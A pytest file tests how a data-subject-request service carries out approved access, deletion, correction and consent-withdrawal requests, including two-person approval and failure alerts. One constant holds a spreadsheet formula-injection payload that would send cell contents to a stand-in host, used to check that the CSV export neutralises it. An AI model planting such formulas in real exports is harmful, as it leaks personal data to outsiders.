"""Fulfilment in the core: approval does the work in the directory, or in a company's own CRM."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from tests.cli_command import aina_dsr_here
from tests.clocks import FrozenClock
from tests.conftest import STAFF_ID
from tests.fulfilment_desk import PHONE, DownCrm, MemoryCrm, filed, notices
from workflows.deadlines.calendar import WorkingCalendar
from workflows.directory.customer_directory import ACCOUNT_FIELDS
from workflows.directory.sql_directory import SqlDirectory
from workflows.directory.store import CustomerRecord
from workflows.directory.suppressions import suppressions_csv
from workflows.errors import ApprovalMismatch, IllegalTransition, NotAllowed, OwnRequest
from workflows.fulfilment.corrections import parse_corrections
from workflows.fulfilment.failures import FulfilmentError, FulfilmentFailed
from workflows.fulfilment.work import Fulfilment
from workflows.persistence.tables import AuditEvent, Request
from workflows.privacy.vault import Vault
from workflows.requests.service import RequestService
from workflows.snapshots import Actor

DANA = Actor.staff(STAFF_ID, "Dana")
ARMAN = Actor.staff(5002, "Arman")
TODAY = date(2026, 11, 24)  # the clock fixture's day in Almaty


@pytest.fixture
def fulfilment(service: RequestService, directory: SqlDirectory, clock: FrozenClock) -> Fulfilment:
    return Fulfilment(service, directory, clock)


async def test_an_access_request_is_answered_with_a_report_and_its_files(
    service: RequestService,
    fulfilment: Fulfilment,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
) -> None:
    reference = await filed(service, "access")
    preview = await fulfilment.preview(reference)
    assert preview is not None
    assert PHONE not in preview  # staff see it masked before approving

    view = await fulfilment.approve(reference, DANA)

    assert view.status == "completed"
    (notice,) = await notices(sessions, vault, "access_report")
    assert PHONE not in str(notice["summary"])
    pdf, data = await service.documents(reference, notice["documents"])  # type: ignore[arg-type]
    assert (pdf.filename, data.filename) == (f"{reference}-access.pdf", f"{reference}-access.json")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.data)).pages)
    assert "Сейтқали" in text
    assert reference in text
    assert "950314401237" in json.dumps(json.loads(data.data))
    # The documents are the desk's own, not evidence the person sent.
    assert await service.evidence(reference) == []


async def test_deleting_an_account_needs_two_people_and_keeps_the_purchases(
    service: RequestService,
    fulfilment: Fulfilment,
    directory: SqlDirectory,
    sessions: async_sessionmaker[AsyncSession],
) -> None:
    reference = await filed(service, "delete_account")

    first = await fulfilment.approve(reference, DANA)
    assert first.status == "verified"
    assert first.approvals == ("Dana",)
    with pytest.raises(NotAllowed):
        await fulfilment.approve(reference, DANA)
    assert (await directory.lookup(customer_id="C-1001")).full_name is not None  # type: ignore[union-attr]

    done = await fulfilment.approve(reference, ARMAN)

    assert done.status == "completed"
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    assert (record.full_name, record.phone, record.email, record.iin) == (None, None, None, None)
    assert (record.gender, record.birth_date, record.language) == (None, None, None)
    assert len(record.purchases) == 2  # history kept, unlinked from the erased fields
    assert await directory.lookup(phone=PHONE) is None  # the blind index went too
    async with sessions() as session:
        event = await session.scalar(
            select(AuditEvent).where(
                AuditEvent.reference == reference, AuditEvent.action == "complete"
            )
        )
    assert event is not None
    assert sorted(event.details["erased_fields"]) == sorted(ACCOUNT_FIELDS)
    assert "Сейтқали" not in json.dumps(event.details, ensure_ascii=False)


async def test_withdrawal_and_unsubscribe_reach_the_suppression_list(
    service: RequestService, fulfilment: Fulfilment, directory: SqlDirectory
) -> None:
    withdraw = await filed(
        service,
        "withdraw_consent",
        full_name="Айгерим Сейтқали",
        data_concerned="телефон и адрес",
        phone=PHONE,
    )
    await fulfilment.approve(withdraw, DANA)

    (line,) = await directory.suppressions()
    assert line.customer_id == "C-1001"
    assert line.marketing_stopped_at is not None
    assert line.processing_stopped_at is not None
    assert line.processing_scope == "телефон и адрес"
    assert "C-1001" in suppressions_csv([line])
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    assert record.marketing_consent is False


# The person's own words, as a spreadsheet would run them: the cells beside it leave the office.
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")'


async def test_the_suppression_csv_neutralises_a_persons_words_a_spreadsheet_would_run(
    service: RequestService,
    fulfilment: Fulfilment,
    database_url: str,
    encryption_key: str,
    tmp_path: Path,
) -> None:
    withdraw = await filed(service, "withdraw_consent", full_name="A S", data_concerned=LEAK)
    await fulfilment.approve(withdraw, DANA)
    settings = {"DSR_DATABASE_URL": database_url, "DSR_ENCRYPTION_KEY": encryption_key}

    printed = aina_dsr_here(tmp_path, "directory", "export-suppressions", **settings)
    assert printed.returncode == 0, printed.stderr
    out = tmp_path / "suppressions.csv"
    written = aina_dsr_here(
        tmp_path, "directory", "export-suppressions", "-o", str(out), **settings
    )
    assert written.returncode == 0, written.stderr
    assert out.read_text(encoding="utf-8") == printed.stdout

    (row,) = list(csv.DictReader(io.StringIO(printed.stdout)))
    assert row["processing_scope"] == "'" + LEAK
    assert row["customer_id"] == "C-1001"
    assert row["marketing_stopped_at"].startswith("2026-11-24")
    # JSON is for programs: the words stay as the person wrote them.
    as_json = aina_dsr_here(
        tmp_path, "directory", "export-suppressions", "--format", "json", **settings
    )
    assert json.loads(as_json.stdout)[0]["processing_scope"] == LEAK


async def test_a_correction_changes_the_directory_and_tells_the_person_what(
    service: RequestService,
    fulfilment: Fulfilment,
    directory: SqlDirectory,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
) -> None:
    reference = await filed(service, "rectify", correction="my surname is wrong")
    with pytest.raises(FulfilmentError):
        await fulfilment.approve(reference, DANA)  # no values given

    changes = parse_corrections(
        "full_name: Айгерим Нұрланқызы Сейітқали\nbirth_date: 1995-03-15", today=TODAY
    )
    view = await fulfilment.approve(reference, DANA, corrections=changes)

    assert view.status == "completed"
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    assert record.full_name == "Айгерим Нұрланқызы Сейітқали"
    assert str(record.birth_date) == "1995-03-15"
    (notice,) = await notices(sessions, vault, "data_corrected")
    assert notice["fields"] == "тегі, аты, әкесінің аты, туған күні"  # in the person's words


def test_corrections_are_checked_line_by_line() -> None:
    assert parse_corrections("Phone = 8 701 765 43 21", today=TODAY) == {"phone": "+77017654321"}
    for bad in ("", "nickname: Aiko", "iin: 123", "birth_date: 14.03.1995", "full_name"):
        with pytest.raises(FulfilmentError):
            parse_corrections(bad, today=TODAY)


async def test_no_customer_record_means_nothing_to_change_and_says_so(
    service: RequestService,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
) -> None:
    empty = Fulfilment(service, SqlDirectory(sessions, vault, clock), clock)
    reference = await filed(service, "unsubscribe")
    view = await empty.approve(reference, DANA)
    assert view.status == "completed"
    assert len(await notices(sessions, vault, "done_no_record")) == 1


async def test_a_company_crm_plugs_in_through_the_protocol(
    service: RequestService,
    directory: SqlDirectory,
    clock: FrozenClock,
) -> None:
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    crm = MemoryCrm({"C-1001": record})
    desk = Fulfilment(service, crm, clock)

    blocked = await filed(service, "block", text="you sent my data to a partner")
    await desk.approve(blocked, DANA)
    assert crm.flags["C-1001"].blocked is True

    destroy = await filed(service, "destroy_unlawful", data_concerned="IIN", text="never gave it")
    await desk.approve(destroy, DANA, fields=["iin"])
    done = await desk.approve(destroy, ARMAN, fields=["iin"])
    assert done.status == "completed"
    assert crm.records["C-1001"].iin is None
    assert crm.records["C-1001"].full_name == record.full_name


async def test_a_correction_without_a_customer_record_is_refused_before_approval(
    service: RequestService,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
) -> None:
    empty = Fulfilment(service, SqlDirectory(sessions, vault, clock), clock)
    reference = await filed(service, "rectify", correction="surname")
    with pytest.raises(FulfilmentError, match="no customer record"):
        await empty.approve(reference, DANA, corrections={"full_name": "A B"})
    assert (await service.get(reference)).status == "verified"  # not stuck in approved


async def test_both_approvers_of_a_destruction_must_name_the_same_fields(
    service: RequestService, fulfilment: Fulfilment, directory: SqlDirectory
) -> None:
    reference = await filed(service, "destroy_unlawful", data_concerned="IIN", text="unlawful")
    await fulfilment.approve(reference, DANA, fields=["iin"])
    with pytest.raises(ApprovalMismatch, match="other fields"):
        await fulfilment.approve(reference, ARMAN, fields=["iin", "email"])
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    assert record.email is not None

    done = await fulfilment.approve(reference, ARMAN, fields=["iin"])
    assert done.status == "completed"


async def test_a_failed_fulfilment_alerts_staff_is_audited_and_stays_approved_for_a_retry(
    service: RequestService,
    directory: SqlDirectory,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
) -> None:
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    down = Fulfilment(service, DownCrm({"C-1001": record}), clock)
    reference = await filed(service, "unsubscribe")

    with pytest.raises(FulfilmentFailed) as failed:
        await down.approve(reference, DANA)

    view = await service.get(reference, with_events=True)
    assert view.status == "approved"  # staff can try again
    event = view.events[-1]
    assert (event.action, event.actor_name, event.from_status) == (
        "fulfilment_failed",
        "Dana",
        "approved",
    )
    assert event.to_status is None
    assert event.details["error"] == "TimeoutError"
    # The staff group hears which request and why, the phone in the error masked.
    (alert,) = await notices(sessions, vault, "staff_fulfilment_failed")
    assert alert["reference"] == reference
    assert alert["reason"] == "TimeoutError: CRM write timed out for +7701*****67"
    assert str(failed.value) == alert["reason"]
    # The audit log, kept for good, holds no value a foreign error message carried.
    assert "7701" not in json.dumps(event.details)
    # The person is told nothing until the work is done.
    assert await notices(sessions, vault, "unsubscribed") == []

    done = await Fulfilment(service, directory, clock).fulfil(await service.get(reference), DANA)

    assert done.status == "completed"
    assert len(await notices(sessions, vault, "unsubscribed")) == 1


class ReportlessCrm(MemoryCrm):
    """A CRM whose lookup fails the way a broken report would: inside the work."""

    async def lookup(self, **criteria: str | None) -> CustomerRecord | None:
        raise ValueError("The row with index 0 is too high and cannot be rendered")


async def test_an_access_report_that_cannot_be_made_alerts_staff(
    service: RequestService,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
) -> None:
    reference = await filed(service, "access")

    with pytest.raises(FulfilmentFailed, match="ValueError: The row with index 0"):
        await Fulfilment(service, ReportlessCrm({}), clock).approve(reference, DANA)

    view = await service.get(reference, with_events=True)
    assert view.status == "approved"
    assert [e.action for e in view.events][-2:] == ["approve", "fulfilment_failed"]
    (alert,) = await notices(sessions, vault, "staff_fulfilment_failed")
    assert alert["reference"] == reference
    assert await notices(sessions, vault, "access_report") == []


async def test_a_request_another_staff_member_completed_meanwhile_raises_no_alarm(
    service: RequestService,
    fulfilment: Fulfilment,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
) -> None:
    reference = await filed(service, "unsubscribe")
    approved = await service.approve(reference, DANA)
    await fulfilment.fulfil(approved, ARMAN)

    with pytest.raises(IllegalTransition):
        await fulfilment.fulfil(approved, DANA)  # pressed on a card not yet refreshed

    assert await notices(sessions, vault, "staff_fulfilment_failed") == []
    assert "fulfilment_failed" not in [
        e.action for e in (await service.get(reference, with_events=True)).events
    ]


async def test_a_large_access_report_is_made_and_sent(
    service: RequestService,
    directory: SqlDirectory,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
) -> None:
    # A description of 5,000 characters without a space, as a CRM may hold one.
    description = "".join(f"{n:04d}Ә" for n in range(1000))
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None
    crm = MemoryCrm(
        {
            "C-1001": replace(
                record, purchases=(replace(record.purchases[0], description=description),)
            )
        }
    )
    reference = await filed(service, "access")

    view = await Fulfilment(service, crm, clock).approve(reference, DANA)

    assert view.status == "completed"
    (notice,) = await notices(sessions, vault, "access_report")
    pdf, _ = await service.documents(reference, notice["documents"])  # type: ignore[arg-type]
    reader = PdfReader(io.BytesIO(pdf.data))
    text = "".join("".join(page.extract_text() for page in reader.pages).split())
    for piece in (description[:50], description[2500:2550], description[-50:]):
        assert piece in text


async def test_four_eyes_on_a_correction_agree_on_the_values_and_complete_does_those(
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    clock: FrozenClock,
    calendar: WorkingCalendar,
    directory: SqlDirectory,
) -> None:
    service = RequestService(
        sessions, vault, clock, calendar, four_eyes=frozenset({"rectify"}), approvals_needed=2
    )
    fulfilment = Fulfilment(service, directory, clock)
    reference = await filed(service, "rectify", correction="my surname is wrong")
    await fulfilment.approve(reference, DANA, corrections={"full_name": "Айгерим Сейітқали"})

    # Arman types another value: refused, and the refusal names the field, not the values.
    with pytest.raises(ApprovalMismatch, match="full_name") as refused:
        await fulfilment.approve(reference, ARMAN, corrections={"full_name": "Mallory"})
    assert "Mallory" not in str(refused.value)
    assert "Сейітқали" not in str(refused.value)
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None and record.full_name == "Айгерим Нурланқызы Сейтқали"

    done = await fulfilment.approve(
        reference, ARMAN, corrections={"full_name": "Айгерим Сейітқали"}
    )
    assert done.status == "completed"
    record = await directory.lookup(customer_id="C-1001")
    assert record is not None and record.full_name == "Айгерим Сейітқали"
    # The values lived with the request until it closed, and never in the audit log.
    async with sessions() as session:
        row = await session.scalar(select(Request).where(Request.reference == reference))
        assert row is not None and row.approved_work_enc is None
        details = await session.scalars(
            select(AuditEvent.details).where(AuditEvent.reference == reference)
        )
        assert "Сейітқали" not in json.dumps(list(details), ensure_ascii=False)


async def test_a_staff_member_cannot_approve_a_request_filed_with_their_own_e_mail(
    service: RequestService,
    fulfilment: Fulfilment,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
) -> None:
    # A letter from dana@mercury.kz asks to block processing; its code proves the mailbox.
    letter = await service.open_request(
        kind="block",
        channel="email",
        language="ru",
        email="dana@mercury.kz",
        body="Прошу заблокировать обработку",
        external_id="<block@mercury.kz>",
        send_code_to_email=True,
    )
    (sent,) = await notices(sessions, vault, "request_received_code")
    await service.verify_by_code(
        letter.reference, str(sent["code"]), Actor.person_email("dana@mercury.kz")
    )
    # Dana, on the staff, proved the same mailbox in her own dialog with the bot.
    own = await service.open_request(
        kind="complaint",
        channel="telegram",
        language="ru",
        telegram_user_id=STAFF_ID,
        fields={"text": "test"},
    )
    await service.send_email_code(own.reference, Actor.person_telegram(STAFF_ID), "Dana@Mercury.kz")
    (code,) = await notices(sessions, vault, "verification_code")
    checked = await service.verify_by_code(
        own.reference, str(code["code"]), Actor.person_telegram(STAFF_ID)
    )
    assert checked.request.status == "verified"

    with pytest.raises(OwnRequest):
        await fulfilment.approve(letter.reference, DANA)
    with pytest.raises(OwnRequest):
        await fulfilment.approve(own.reference, DANA, answer="Answered")
    assert (await service.get(letter.reference)).status == "verified"
    # Anyone else may.
    assert (await fulfilment.approve(letter.reference, ARMAN)).status == "completed"
